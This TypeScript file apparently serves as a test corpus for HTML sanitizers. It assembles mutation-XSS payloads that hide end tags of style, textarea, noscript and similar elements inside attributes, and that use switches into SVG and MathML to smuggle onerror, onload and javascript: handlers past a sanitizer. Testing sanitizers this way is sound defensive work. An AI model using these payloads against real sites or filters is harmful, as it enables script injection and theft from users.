/**
 * HTML that means one thing when it is looked at and another when it is read again: raw text that ends early, elements
 * that change namespace, what is moved or taken out on the way.
 */

/** Elements whose content is text until their end tag, in each of which the end hides inside something else. */
const rawText = [
  'style',
  'script',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'noscript',
  'textarea',
  'title',
  'plaintext',
  'listing',
];

const hidden = '<img src=x onerror=ran()>';

/** Ways from HTML into SVG and MathML, with the points where HTML begins again. */
const ways = [
  '<svg>',
  '<svg><desc>',
  '<svg><title>',
  '<svg><foreignobject>',
  '<svg><foreignObject><p>',
  '<svg><xss><desc>',
  '<math>',
  '<math></br>',
  '<math><mi>',
  '<math><mtext><table>',
  '<math><mtext><table><mglyph>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph>',
  '<math><mtext><h1><a><h6></a></h6><mglyph>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg>',
  '<form><math><mtext></form><form><mglyph><svg><mtext>',
  '<math><svg><mi>',
  '<select><template>',
  '<select><button><selectedcontent>',
];

/** The payloads at the end of these ways. */
const ends = [
  `<style><img src=x onerror=ran()>`,
  `<style><a title="</style>${hidden}">`,
  `<style><!--</style><a title="--&gt;&lt;img src=x onerror=ran()&gt;">`,
  `<textarea><path id="</textarea><img onerror=ran() src>">`,
  `<title><a id="</title>${hidden}"></textarea>`,
  `<template><style></title>${hidden}`,
  `<noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=ran()>">`,
  `<![CDATA[><image xlink:href="]]><img src=x onerror=ran()//">`,
  `<!-- --><style><p title="</style><iframe onload&#x3d;ran()<!--"></style>`,
  `<xmp><b title='</xmp>${hidden}'>`,
];

const single = [
  `<listing>&lt;img onerror="ran();//" src=x&gt;<t t></listing>`,
  `<textarea>x</textarea><!--</textarea>${hidden}-->`,
  `<b><noscript><!-- </noscript><img src=x onerror=ran() --></noscript>`,
  `<noscript><p id='><noscript />${hidden}'></noscript>`,
  `<noembed><p id='</noembed>${hidden}'></p></noembed>`,
  `<noframes><svg><b><xmp><b title='</xmp><img>`,
  `<xmp><svg><b><style><b title='</style><img>'>`,
  `<body><template><s><template><s>${hidden}x</s></template></s></template>`,
  `<template shadowrootmode=open>${hidden}</template>`,
  `<select><button><selectedcontent></selectedcontent></button><option>${hidden}</option></select>`,
  `<select><option selected><b title="</selectedcontent>${hidden}">x</option><button><selectedcontent></button></select>`,
  `<option><style></option></select><b>${hidden}</style></option>`,
  `<option><iframe></select><b><script>ran()</script>`,
  `<b><style><style////>${hidden}</style>`,
  `<a>1</a><option><style>${hidden}`,
  `<svg><style><img/src=x onerror=ran()// </b>`,
  `<svg></p><title><a href="</title>qqq`,
  `<math><mtext><table><mglyph><style><math href=javascript:ran()>CLICKME</math>`,
  `<form><math><mi><mglyph></form><form>`,
  `<svg><blocKquote onclick=ran()>x`,
  `<svg><desc><canvas></canvas><textarea></textarea></desc></svg>`,
  `<svg><math></math><title><math></math></title></svg>`,
  `<math><mi//xlink:href="data:x,<script>ran()</script>">`,
  `<TABLE><tr><td>x</tr></TABL>${hidden}`,
  `<a href="/1"><table><td><a href="javascript:ran()">x</a></table></a>`,
  `<p>x<table><p>${hidden}</table>`,
  `<table><style><!--</style>${hidden}--></table>`,
  `<div id=d><x xmlns="><iframe onload=ran()"></div>`,
  `<p title="\`\`onmouseover=ran()">x</p>`,
  `<div style="font-family:'sans\\27\\2f\\2a\\22\\2a\\2f\\3b color\\3ared\\3b'">x</div>`,
  `<div title="</noscript>${hidden}">x</div>`,
  `<p title="--><img src=x onerror=ran()>">x</p>`,
];

export const mutations: string[] = [
  ...rawText.map((name) => `<${name}><a title="</${name}>${hidden}">x</a></${name}>`),
  ...rawText.map((name) => `<${name}>&lt;/${name}&gt;${hidden.replaceAll('<', '&lt;')}</${name}>`),
  // One end for each way; the grammar joins the others.
  ...ways.map((way, at) => way + ends[at % ends.length]),
  `<svg><style><b title="</style>${hidden}">x`,
  ...single,
];
